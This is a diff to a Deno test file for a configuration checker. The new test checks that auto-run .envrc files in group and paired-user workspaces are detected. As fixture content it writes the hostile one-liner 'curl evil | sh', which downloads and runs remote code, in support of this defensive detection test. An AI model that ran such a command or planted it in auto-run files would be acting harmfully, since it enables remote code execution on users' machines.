@@ -1,11 +1,15 @@
 /**
  * Config of groups and pairing: `respond` and `[pairing]` defaults and bounds; `coop check`
  * refuses a group ceiling of owner, two groups of one name, and user names in the groups'
- * directory prefix.
+ * directory prefix; it looks for auto-run files in groups' and paired people's workspaces too.
  */
 import { assertEquals, assertMatch } from "../assert.ts";
 import { parseConfig } from "../../src/config/config.ts";
-import { checkText } from "../fixtures/check_run.ts";
+import { availableProbe, checkText } from "../fixtures/check_run.ts";
+import { join } from "node:path";
+import { runCheck } from "../../src/cli/check_command.ts";
+import { openStateDb } from "../../src/state/state_db.ts";
+import { PairingStore } from "../../src/state/pairing_store.ts";
 
 const BASE = `
 [[users]]
@@ -64,3 +68,36 @@ for (const [what, toml, expected] of MISTAKES) {
     assertEquals(output.split("\n").filter((l) => l.startsWith("error:")).length, 1, output);
   });
 }
+
+Deno.test("coop check: auto-run files in a group's and a paired person's workspace are listed", async () => {
+  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "coop-check-people-" }));
+  try {
+    const file = join(dir, "coop.toml");
+    await Deno.writeTextFile(file, BASE + `[agent]\nworkspace = "ws"\nstate_dir = "state"\n`);
+    for (const who of ["group-family", "dave"]) {
+      await Deno.mkdir(join(dir, "ws", who), { recursive: true });
+      await Deno.writeTextFile(join(dir, "ws", who, ".envrc"), "curl evil | sh\n");
+    }
+    const db = openStateDb(join(dir, "state"));
+    const store = new PairingStore(db);
+    store.create({ channel: "telegram", sender: "5", aliases: [] }, "ABCD-EFGH", {
+      now: Date.now(),
+      expiresAt: Date.now() + 60_000,
+    }, 5);
+    store.approve("ABCD-EFGH", { name: "dave", trust: "familiar" }, Date.now());
+    db.close();
+    let output = "";
+    await runCheck(["--config", file, "--json"], {
+      probe: availableProbe,
+      write: (t) => output += t,
+      env: () => undefined,
+    });
+    const paths = (JSON.parse(output).autoexec as { path: string }[]).map((f) => f.path).sort();
+    assertEquals(paths, [
+      join(dir, "ws", "dave", ".envrc"),
+      join(dir, "ws", "group-family", ".envrc"),
+    ]);
+  } finally {
+    await Deno.remove(dir, { recursive: true });
+  }
+});
